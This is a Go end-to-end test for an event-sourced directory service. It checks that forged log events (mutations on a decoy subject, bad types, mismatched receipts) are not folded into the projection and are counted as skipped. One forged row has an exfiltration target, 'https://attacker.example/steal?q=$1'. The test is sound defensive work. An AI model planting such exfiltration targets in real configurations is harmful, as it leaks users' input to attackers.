package e2e_test

import (
	"context"
	"strings"
	"testing"
	"time"

	"github.com/capdir/capdir"
	"github.com/capdir/capdir/contract"
	"github.com/capdir/capdir/eventlog/wire"
	"github.com/capdir/capdir/internal/nodetest"
)

// forge appends an event straight to n's log, as a client holding subject could,
// and waits until n's projector has moved past it.
func forge(t *testing.T, n *capdir.Node, subject, typ string, data any) {
	t.Helper()
	ev, err := wire.NewEvent(time.Now(), typ, "nats:mallory", data)
	if err != nil {
		t.Fatal(err)
	}
	ctx, cancel := context.WithTimeout(context.Background(), 10*time.Second)
	defer cancel()
	seq, err := n.Log().Append(ctx, subject, ev)
	if err != nil {
		t.Fatal(err)
	}
	stream := wire.DataStream
	if strings.HasPrefix(subject, "capdir.ctl.") {
		stream = wire.ControlStream
	}
	if err := n.Projector().WaitFor(ctx, stream, seq); err != nil {
		t.Fatal(err)
	}
}

// A mutation appended on DECOY's subject that names GREET does not replace GREET,
// and the owner's PATCH, PUT and DELETE of GREET still go through (before the fold
// checked subjects they answered 409 for ever: the write path expected the forged
// event's sequence on GREET's subject). So do they after a forged mutation on
// GREET's own subject. Forged receipts and requests on each other's subjects are
// not folded either; each skip is counted on /metrics, and the node's cleanup
// checks that a replay of the log equals the live projection.
func TestForgedEventsAreNotFolded(t *testing.T) {
	n := nodetest.Start(t, nil)
	const greet = `{"key":"GREET","type":"fn","target":"echo","content":"# WHAT: greet\n[\"Hello, $1!\"]"}`
	if code, body := nodetest.Do(t, n, "POST", "/api/directory", greet); code != 201 {
		t.Fatalf("write GREET: %d %s", code, body)
	}
	_, before := nodetest.Do(t, n, "GET", "/api/directory/GREET", "")

	decoy := contract.Row{Key: "GREET", Type: contract.TypeHTTP, Target: "GET https://attacker.example/steal?q=$1", Content: "# WHAT: greet", Enabled: 1}
	forge(t, n, wire.DirectorySubject("DECOY"), wire.TypeDirectoryMutate,
		contract.DirectoryMutation{Action: contract.ActionReplace, Key: "GREET", Row: &decoy})
	if _, after := nodetest.Do(t, n, "GET", "/api/directory/GREET", ""); after != before {
		t.Fatalf("GREET changed by a mutation on DECOY's subject:\nbefore %s\nafter  %s", before, after)
	}
	if code, body := nodetest.Do(t, n, "POST", "/api/dispatch", `{"key":"GREET","body":"Ada"}`); code != 200 || !strings.Contains(body, "Hello, Ada!") {
		t.Fatalf("dispatch GREET: %d %s", code, body)
	}
	if code, body := nodetest.Do(t, n, "PATCH", "/api/directory/GREET", `{"category":"greetings"}`); code != 200 {
		t.Fatalf("PATCH GREET after the DECOY attack: %d %s", code, body)
	}

	weird := contract.Row{Key: "GREET", Type: "weird", Target: "echo"}
	forge(t, n, wire.DirectorySubject("GREET"), wire.TypeDirectoryMutate,
		contract.DirectoryMutation{Action: contract.ActionReplace, Key: "GREET", Row: &weird})
	if code, body := nodetest.Do(t, n, "GET", "/api/directory/GREET", ""); code != 200 || !strings.Contains(body, `"type":"fn"`) {
		t.Fatalf("GREET after a forged type: %d %s", code, body)
	}
	if code, body := nodetest.Do(t, n, "PUT", "/api/directory/GREET", greet); code != 200 {
		t.Fatalf("PUT GREET after a forged mutation on its subject: %d %s", code, body)
	}

	forge(t, n, wire.RequestSubject("GREET"), wire.TypeReceipt, wire.Receipt{ReceiptSummary: wire.ReceiptSummary{
		InvocationID: "inv_forged", Key: "GREET", OK: true, Ran: true, Status: wire.StatusProvenMaterialResult}})
	if code, body := nodetest.Do(t, n, "GET", "/api/receipts/inv_forged", ""); code != 404 {
		t.Fatalf("a receipt forged on a request subject: %d %s", code, body)
	}
	forge(t, n, wire.ReceiptSubject("GREET"), wire.TypeInvocationRequested,
		wire.InvocationRequest{InvocationID: "inv_on_rcpt", Key: "GREET", Body: "Ada"})
	forge(t, n, wire.ReceiptSubject("GREET"), wire.TypeReceipt, wire.Receipt{ReceiptSummary: wire.ReceiptSummary{
		InvocationID: "inv_other_key", Key: "DECOY", OK: true, Ran: true, Status: wire.StatusProvenMaterialResult}})
	if code, body := nodetest.Do(t, n, "GET", "/api/receipts/inv_other_key", ""); code != 404 {
		t.Fatalf("a receipt naming another key than its subject's: %d %s", code, body)
	}

	if code, body := nodetest.Do(t, n, "DELETE", "/api/directory/GREET", ""); code != 200 {
		t.Fatalf("DELETE GREET: %d %s", code, body)
	}

	text := scrape(t, n)
	for series, want := range map[string]float64{
		`capdir_projector_events_skipped_total{reason="key_mismatch",stream="CAPDIR_CONTROL"}`: 1,
		`capdir_projector_events_skipped_total{reason="bad_mutation",stream="CAPDIR_CONTROL"}`: 1,
		`capdir_projector_events_skipped_total{reason="wrong_subject",stream="CAPDIR_DATA"}`:   2,
		`capdir_projector_events_skipped_total{reason="key_mismatch",stream="CAPDIR_DATA"}`:    1,
		`capdir_projector_events_skipped_total{reason="bad_data",stream="CAPDIR_DATA"}`:        0,
	} {
		if got, ok := sample(text, series); !ok || got != want {
			t.Errorf("%s = %v (present %v), want %v", series, got, ok, want)
		}
	}
}
